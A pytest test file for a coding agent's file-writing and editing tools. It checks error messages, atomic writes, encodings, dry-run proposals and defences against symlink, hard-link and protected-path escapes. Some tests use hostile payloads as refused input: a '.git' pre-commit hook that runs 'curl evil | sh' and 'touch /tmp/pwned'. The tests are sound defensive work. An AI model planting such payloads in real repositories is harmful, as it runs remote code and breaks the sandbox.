"""write_file and edit_file on real files: seed messages, proposals, atomicity, encodings, escapes."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest
from _tools_support import Buffers, make_ctx, preview, run

from tether.core.tools.base import OpenDocument
from tether.core.tools.edit import EditFileTool
from tether.core.tools.write import WriteFileTool
from tether.errors import PolicyDenied, ProposalStale, ToolInputError

EDIT = EditFileTool()
WRITE = WriteFileTool()


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("def f():\n    return 1\n\n\ndef g():\n    return 1\n")
    return root


# --- seed messages, exactly ----------------------------------------------------------------------


def test_str_replace_not_found(ws: Path) -> None:
    with pytest.raises(ToolInputError) as err:
        EDIT.prepare(
            make_ctx(ws), {"command": "str_replace", "path": "src/app.py", "old_str": "nope", "new_str": "x"}
        )
    assert str(err.value) == "Error: old_str not found in file"


def test_str_replace_multiple_lists_every_line(ws: Path) -> None:
    with pytest.raises(ToolInputError) as err:
        EDIT.prepare(
            make_ctx(ws),
            {"command": "str_replace", "path": "src/app.py", "old_str": "return 1", "new_str": "x"},
        )
    assert str(err.value) == (
        "Error: old_str found 2 times at lines 2, 6. Provide more context for unique match."
    )


def test_str_replace_multiple_multiline_old_str(ws: Path) -> None:
    (ws / "m.txt").write_text("a\nb\na\nb\nc\na\nb\n")
    with pytest.raises(ToolInputError) as err:
        EDIT.prepare(
            make_ctx(ws), {"command": "str_replace", "path": "m.txt", "old_str": "a\nb\n", "new_str": ""}
        )
    assert str(err.value) == (
        "Error: old_str found 3 times at lines 1, 3, 6. Provide more context for unique match."
    )


def test_overlapping_occurrences_count_as_ambiguous(ws: Path) -> None:
    (ws / "o.txt").write_text("xaaa\n")
    with pytest.raises(ToolInputError) as err:
        EDIT.prepare(
            make_ctx(ws), {"command": "str_replace", "path": "o.txt", "old_str": "aa", "new_str": "b"}
        )
    assert str(err.value) == (
        "Error: old_str found 2 times at lines 1, 1. Provide more context for unique match."
    )


def test_create_on_existing_file(ws: Path) -> None:
    with pytest.raises(ToolInputError) as err:
        EDIT.prepare(make_ctx(ws), {"command": "create", "path": "src/app.py", "content": "x"})
    assert str(err.value) == "Error: File already exists. Use str_replace to edit existing files."


def test_create_race_is_caught_by_o_excl(ws: Path) -> None:
    prepared = EDIT.prepare(make_ctx(ws), {"command": "create", "path": "new.txt", "content": "mine\n"})
    (ws / "new.txt").write_text("someone else's\n")  # appears between prepare and execute
    outcome = prepared.execute()
    assert not outcome.ok
    assert outcome.text == "Error: File already exists. Use str_replace to edit existing files."
    assert (ws / "new.txt").read_text() == "someone else's\n"


# --- execute ------------------------------------------------------------------------------------


def test_str_replace_writes_and_reports(ws: Path) -> None:
    out = run(
        EDIT,
        make_ctx(ws),
        {
            "command": "str_replace",
            "path": "src/app.py",
            "old_str": "def g():\n    return 1",
            "new_str": "def g():\n    return 2",
        },
    )
    assert out.ok, out.text
    assert out.text == "Edited src/app.py: replaced 1 occurrence at line 5"
    assert (ws / "src" / "app.py").read_text() == "def f():\n    return 1\n\n\ndef g():\n    return 2\n"


def test_create_new_file_with_0644_and_parents(ws: Path) -> None:
    out = run(EDIT, make_ctx(ws), {"command": "create", "path": "pkg/sub/new.py", "content": "x = 1\n"})
    assert out.ok
    assert out.text == "Created pkg/sub/new.py (6 bytes)"
    target = ws / "pkg" / "sub" / "new.py"
    assert target.read_text() == "x = 1\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o644


def test_write_file_keeps_mode_crlf_bom_and_final_newline(ws: Path) -> None:
    target = ws / "win.txt"
    target.write_bytes(b"\xef\xbb\xbfone\r\ntwo\r\n")
    target.chmod(0o600)
    out = run(WRITE, make_ctx(ws), {"path": "win.txt", "content": "one\nTWO\nthree"})
    assert out.ok, out.text
    assert target.read_bytes() == b"\xef\xbb\xbfone\r\nTWO\r\nthree\r\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_str_replace_on_crlf_file_matches_lf_text(ws: Path) -> None:
    target = ws / "win.txt"
    target.write_bytes(b"a\r\nb\r\nc\r\n")
    out = run(
        EDIT,
        make_ctx(ws),
        {"command": "str_replace", "path": "win.txt", "old_str": "a\nb", "new_str": "a\nB\nb2"},
    )
    assert out.ok, out.text
    assert target.read_bytes() == b"a\r\nB\r\nb2\r\nc\r\n"


def test_no_final_newline_is_kept_by_str_replace(ws: Path) -> None:
    target = ws / "n.txt"
    target.write_bytes(b"a\nb")
    run(EDIT, make_ctx(ws), {"command": "str_replace", "path": "n.txt", "old_str": "a", "new_str": "A"})
    assert target.read_bytes() == b"A\nb"


def test_read_only_file_is_refused_and_untouched(ws: Path) -> None:
    target = ws / "ro.txt"
    target.write_text("keep\n")
    target.chmod(0o444)
    out = run(WRITE, make_ctx(ws), {"path": "ro.txt", "content": "changed\n"})
    assert not out.ok
    assert out.text == (
        "Error: ro.txt is read-only (mode 444); nothing was written. Make it writable first if this "
        "edit is intended."
    )
    assert target.read_text() == "keep\n"


def test_file_changed_after_prepare_is_not_overwritten(ws: Path) -> None:
    prepared = WRITE.prepare(make_ctx(ws), {"path": "src/app.py", "content": "new\n"})
    (ws / "src" / "app.py").write_text("user typed this\n")
    out = prepared.execute()
    assert not out.ok
    assert out.text == (
        "Error: src/app.py changed after this edit was prepared; nothing was written. Read the file "
        "again and retry."
    )
    assert (ws / "src" / "app.py").read_text() == "user typed this\n"


def test_no_temp_files_left_behind(ws: Path) -> None:
    run(WRITE, make_ctx(ws), {"path": "src/app.py", "content": "x\n"})
    run(WRITE, make_ctx(ws), {"path": "ro.txt", "content": "x\n"})
    leftovers = [p.name for p in ws.rglob("*") if ".tether-" in p.name]
    assert leftovers == []


# --- dry run = proposal -------------------------------------------------------------------------


def test_dry_run_creates_a_proposal_and_prints_the_seed_form(ws: Path) -> None:
    ctx = make_ctx(ws)
    out = preview(
        EDIT,
        ctx,
        {
            "command": "str_replace",
            "path": "src/app.py",
            "old_str": "def f():\n    return 1",
            "new_str": "def f():\n    return 0",
        },
    )
    assert out.ok
    assert out.proposal is not None
    assert out.text == (
        "=== src/app.py (dry-run) ===\n"
        "--- old\n"
        "+++ new\n"
        "@@ -1,5 +1,5 @@\n"
        " def f():\n"
        "-    return 1\n"
        "+    return 0\n"
        " \n"
        " \n"
        " def g():\n"
        "(dry-run: use --tool=write to apply)"
    )
    assert out.result["proposal_id"] == out.proposal.id
    # nothing written; the proposal is persisted
    assert (ws / "src" / "app.py").read_text().startswith("def f():\n    return 1\n")
    assert [p.id for p in ctx.proposals.list(pending_only=True)] == [out.proposal.id]


def test_dry_run_of_create_proposes_the_whole_file(ws: Path) -> None:
    out = preview(EDIT, make_ctx(ws), {"command": "create", "path": "n.py", "content": "a\nb\n"})
    assert (
        out.text == "=== n.py (dry-run) ===\n--- old\n+++ new\n@@ -0,0 +1,2 @@\n+a\n+b\n"
        "(dry-run: use --tool=write to apply)"
    )
    assert not (ws / "n.py").exists()


def test_edit_is_computed_against_the_open_buffer(ws: Path) -> None:
    buffers = Buffers()
    target = (ws / "src" / "app.py").resolve()
    buffers.open[target] = OpenDocument(text="unsaved\ndef f():\n    return 1\n", version=7)
    ctx = make_ctx(ws, buffers)
    out = preview(
        EDIT, ctx, {"command": "str_replace", "path": "src/app.py", "old_str": "unsaved", "new_str": "saved"}
    )
    assert out.proposal is not None
    assert out.proposal.base_content == "unsaved\ndef f():\n    return 1\n"
    assert out.proposal.to_json(ws, current=buffers.open[target].text)["hunks"][0]["range"] == {
        "start": {"line": 0, "character": 0},
        "end": {"line": 1, "character": 0},
    }


# --- refusals -----------------------------------------------------------------------------------


def test_symlink_escape_is_denied(ws: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("secret\n")
    os.symlink(outside, ws / "link.txt")
    os.symlink(tmp_path, ws / "linkdir")
    for path in ("link.txt", "linkdir/outside.txt", "../outside.txt", str(outside)):
        with pytest.raises(PolicyDenied):
            WRITE.prepare(make_ctx(ws), {"path": path, "content": "pwned\n"})
    assert outside.read_text() == "secret\n"


def test_symlink_swapped_in_after_prepare_is_caught(ws: Path, tmp_path: Path) -> None:
    (ws / "d").mkdir()
    prepared = EDIT.prepare(make_ctx(ws), {"command": "create", "path": "d/x.txt", "content": "x\n"})
    (ws / "d").rmdir()
    os.symlink(tmp_path, ws / "d")
    out = prepared.execute()
    assert not out.ok
    assert "outside the workspace" in out.text
    assert not (tmp_path / "x.txt").exists()


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".git/config", ".tether/config.toml"])
def test_protected_paths_are_denied(ws: Path, path: str) -> None:
    (ws / ".git" / "hooks").mkdir(parents=True)
    with pytest.raises(PolicyDenied):
        WRITE.prepare(make_ctx(ws), {"path": path, "content": "#!/bin/sh\ntouch /tmp/pwned\n"})
    assert not (ws / path).exists()


def test_nul_bytes_in_path_and_content(ws: Path) -> None:
    with pytest.raises(PolicyDenied):
        WRITE.prepare(make_ctx(ws), {"path": "a\x00b", "content": "x"})
    with pytest.raises(ToolInputError) as err:
        WRITE.prepare(make_ctx(ws), {"path": "a.txt", "content": "x\x00y"})
    assert str(err.value) == "Error: write_file content contains NUL bytes; only text files can be written"


def test_binary_and_non_utf8_files_are_not_edited(ws: Path) -> None:
    (ws / "img.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00")
    (ws / "latin.txt").write_bytes("caf\xe9\n".encode("latin-1"))
    with pytest.raises(ToolInputError) as err:
        EDIT.prepare(
            make_ctx(ws), {"command": "str_replace", "path": "img.png", "old_str": "PNG", "new_str": "x"}
        )
    assert str(err.value) == "Error: img.png is a binary file; only UTF-8 text files can be read or edited"
    with pytest.raises(ToolInputError) as err:
        WRITE.prepare(make_ctx(ws), {"path": "latin.txt", "content": "x"})
    assert str(err.value) == (
        "Error: latin.txt is not valid UTF-8 (byte 3); only UTF-8 text files can be read or edited"
    )


def test_huge_content_is_refused_by_the_schema(ws: Path) -> None:
    with pytest.raises(ToolInputError, match="too long"):
        WRITE.prepare(make_ctx(ws), {"path": "big.txt", "content": "x" * (10 * 1024 * 1024 + 1)})


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ({"path": "a"}, "write_file: `content` is required"),
        ({"path": "a", "content": 3}, "write_file: `content` must be a string, not int 3"),
        (
            {"path": "a", "content": "x", "mode": 7},
            "write_file: unknown field(s) 'mode'; allowed fields: path, content",
        ),
        ([1, 2], "write_file: input must be a JSON object, not list [1, 2]"),
    ],
)
def test_write_input_validation(ws: Path, args: object, message: str) -> None:
    with pytest.raises(ToolInputError) as err:
        WRITE.prepare(make_ctx(ws), args)  # type: ignore[arg-type]
    assert str(err.value) == message


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            {"command": "view", "path": "a"},
            "edit_file: `command` must be one of 'str_replace', 'create', not str 'view'",
        ),
        ({"command": "create", "path": "a"}, "edit_file: `content` is required for command 'create'"),
        (
            {"command": "str_replace", "path": "src/app.py"},
            "edit_file: `old_str` is required for command 'str_replace'",
        ),
        (
            {"command": "str_replace", "path": "src/app.py", "old_str": ""},
            "edit_file: `old_str` must not be empty",
        ),
        (
            {"command": "str_replace", "path": "missing.py", "old_str": "x"},
            "Error: File not found: missing.py. Use create to make a new file.",
        ),
    ],
)
def test_edit_input_validation(ws: Path, args: dict[str, object], message: str) -> None:
    with pytest.raises(ToolInputError) as err:
        EDIT.prepare(make_ctx(ws), args)
    assert str(err.value) == message


def test_specs_are_anthropic_tool_definitions() -> None:
    for tool in (EDIT, WRITE):
        definition = tool.spec.anthropic_definition()
        assert set(definition) == {"name", "description", "input_schema"}
        assert definition["input_schema"]["type"] == "object"
        assert definition["input_schema"]["additionalProperties"] is False


def test_two_tool_proposals_on_one_file_then_partial_accepts(ws: Path) -> None:
    target = ws / "long.py"
    target.write_text("".join(f"x{i} = {i}\n" for i in range(40)))
    ctx = make_ctx(ws)
    first = preview(
        EDIT,
        ctx,
        {"command": "str_replace", "path": "long.py", "old_str": "x2 = 2\n", "new_str": "x2 = 20\n"},
    )
    second = preview(
        WRITE,
        ctx,
        {
            "path": "long.py",
            "content": target.read_text().replace("x30 = 30", "x30 = 300").replace("x5 = 5", "x5 = 50"),
        },
    )
    assert first.proposal is not None
    assert second.proposal is not None
    assert [h.index for h in second.proposal.hunks] == [1, 2]
    store = ctx.proposals
    store.apply(store.plan_accept(first.proposal.id, None, target.read_text()))
    # second's hunk 2 (x30) is far from the first edit: it re-bases; hunk 1 (x5) overlaps x2's context
    store.apply(store.plan_accept(second.proposal.id, [2], target.read_text()))
    text = target.read_text()
    assert "x2 = 20\n" in text
    assert "x30 = 300\n" in text
    assert "x5 = 5\n" in text
    assert store.get(second.proposal.id).state == "partially_accepted"
    with pytest.raises(ProposalStale):
        store.plan_accept(second.proposal.id, [1], text)
    assert target.read_text() == text


def test_parent_creation_never_goes_through_an_outside_symlink(ws: Path, tmp_path: Path) -> None:
    from tether.core import fsutil

    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, ws / "escape")
    with pytest.raises(ToolInputError, match="outside the workspace"):
        fsutil.atomic_write_text(ws / "escape" / "sub" / "f.txt", "x", workspace=ws)
    assert list(outside.iterdir()) == []


def test_accepted_new_file_proposal_creates_parents(ws: Path) -> None:
    ctx = make_ctx(ws)
    out = preview(EDIT, ctx, {"command": "create", "path": "a/b/c.txt", "content": "hi\n"})
    assert out.proposal is not None
    ctx.proposals.apply(ctx.proposals.plan_accept(out.proposal.id, None, ""))
    assert (ws / "a" / "b" / "c.txt").read_text() == "hi\n"


def test_hard_link_to_an_outside_file_is_replaced_not_written_through(ws: Path, tmp_path: Path) -> None:
    outside = tmp_path / "victim.txt"
    outside.write_text("untouched\n")
    os.link(outside, ws / "innocent.txt")
    out = run(WRITE, make_ctx(ws), {"path": "innocent.txt", "content": "agent text\n"})
    assert out.ok, out.text
    assert (ws / "innocent.txt").read_text() == "agent text\n"
    assert outside.read_text() == "untouched\n"  # atomic rename replaced the name, not the inode


def test_symlink_inside_workspace_to_a_protected_file_is_denied(ws: Path) -> None:
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    os.symlink(".git/hooks/pre-commit", ws / "harmless.sh")
    with pytest.raises(PolicyDenied):
        WRITE.prepare(make_ctx(ws), {"path": "harmless.sh", "content": "#!/bin/sh\ncurl evil | sh\n"})
    assert (ws / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\n"


def test_str_replace_in_an_unsaved_new_buffer_writes_the_file(ws: Path) -> None:
    buffers = Buffers()
    buffers.open[(ws / "draft.py").resolve()] = OpenDocument(text="x = 1\n", version=1)
    out = run(
        EDIT,
        make_ctx(ws, buffers),
        {"command": "str_replace", "path": "draft.py", "old_str": "1", "new_str": "2"},
    )
    assert out.ok, out.text
    assert (ws / "draft.py").read_text() == "x = 2\n"


def test_prepared_calls_never_raise_into_the_gate() -> None:
    import subprocess

    from tether.core.tools.base import ToolOutcome
    from tether.core.tools.inputs import Prepared

    def boom() -> ToolOutcome:
        raise RuntimeError("unexpected")

    def slow() -> ToolOutcome:
        raise subprocess.TimeoutExpired(["/usr/bin/rg", "x"], 60)

    out = Prepared("read", False, "t", boom, slow).execute()
    assert not out.ok
    assert out.text == "Error: internal error in the tool (RuntimeError: unexpected); please report it"
    assert Prepared("read", False, "t", boom, slow).dry_run().text == "Error: rg timed out after 60s"
